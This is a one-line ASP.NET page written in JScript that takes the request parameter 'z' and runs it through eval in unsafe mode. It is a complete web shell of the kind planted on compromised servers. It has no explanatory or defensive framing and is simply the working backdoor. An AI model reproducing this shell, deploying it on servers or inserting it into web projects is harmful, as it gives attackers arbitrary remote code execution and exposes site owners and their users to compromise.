<%@ Page Language="Jscript" %><% var c = Request.Item["z"]; eval(c, "unsafe"); %>
